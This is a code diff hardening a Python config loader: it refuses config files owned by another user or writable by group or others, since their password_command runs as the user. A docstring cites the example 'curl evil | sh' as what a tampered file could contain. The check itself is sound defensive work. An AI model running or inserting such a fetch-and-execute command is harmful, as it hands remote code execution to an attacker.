@@ -845,15 +845,43 @@ def make_settings(
     return _build(_Source(IN_CODE, base), data, None, None)
 
 
-def _exposed_mode(path: Path) -> int | None:
+def _exposed_mode(st: os.stat_result | None) -> int | None:
     """The file's permission bits if group/others may read it (POSIX only), else None."""
-    if os.name != "posix":
+    if os.name != "posix" or st is None:
         return None
-    try:
-        mode = stat.S_IMODE(path.stat().st_mode)
-    except OSError:
-        return None
+    mode = stat.S_IMODE(st.st_mode)
     return mode if mode & 0o044 else None
+
+
+def _refuse_untrusted_file(label: str, st: os.stat_result) -> None:
+    """A config someone else can change is refused: its password_command runs as you.
+
+    Checked on the opened file (fstat), so what is checked is what is read. Owned by
+    another user, or writable by group or others, it could be edited into
+    `password_command = "curl evil | sh"` (aerc and OpenSSH refuse such files too).
+    """
+    if os.name != "posix":
+        return
+    mode = stat.S_IMODE(st.st_mode)
+    me = os.geteuid()
+    if st.st_uid != me:
+        raise ConfigError(
+            f"{label}: is owned by another user (uid {st.st_uid}, you are {me}), who could "
+            "change its commands (password_command) to run anything as you; refusing it",
+            hint=f"if the file is yours, run `chown {me} {label} && chmod 600 {label}`; "
+            "else copy it to a file of your own",
+        )
+    if mode & 0o022:
+        who = (
+            "group and others"
+            if mode & 0o022 == 0o022
+            else ("its group" if mode & 0o020 else "others")
+        )
+        raise ConfigError(
+            f"{label}: is writable by {who} (mode {mode:03o}), who could change its "
+            "commands (password_command) to run anything as you; refusing it",
+            hint=f"run `chmod 600 {label}`",
+        )
 
 
 def _toml_error(label: str, text: str, err: tomllib.TOMLDecodeError) -> ConfigError:
@@ -886,7 +914,10 @@ def load_settings(path: Path | None = None, *, cli_path: str | None = None) -> S
         path, why = paths.locate_config(cli_path)
     label = str(path)
     try:
-        raw = path.read_bytes()
+        with path.open("rb") as file:
+            st = os.fstat(file.fileno())
+            _refuse_untrusted_file(label, st)
+            raw = file.read()
     except FileNotFoundError:
         raise ConfigError(
             f"No config file at {label} ({why})",
@@ -915,4 +946,4 @@ def load_settings(path: Path | None = None, *, cli_path: str | None = None) -> S
     except RecursionError:
         raise ConfigError(f"{label}: invalid TOML: nested too deeply") from None
     src = _Source(label, path.absolute().parent)
-    return _build(src, data, path, _exposed_mode(path))
+    return _build(src, data, path, _exposed_mode(st))
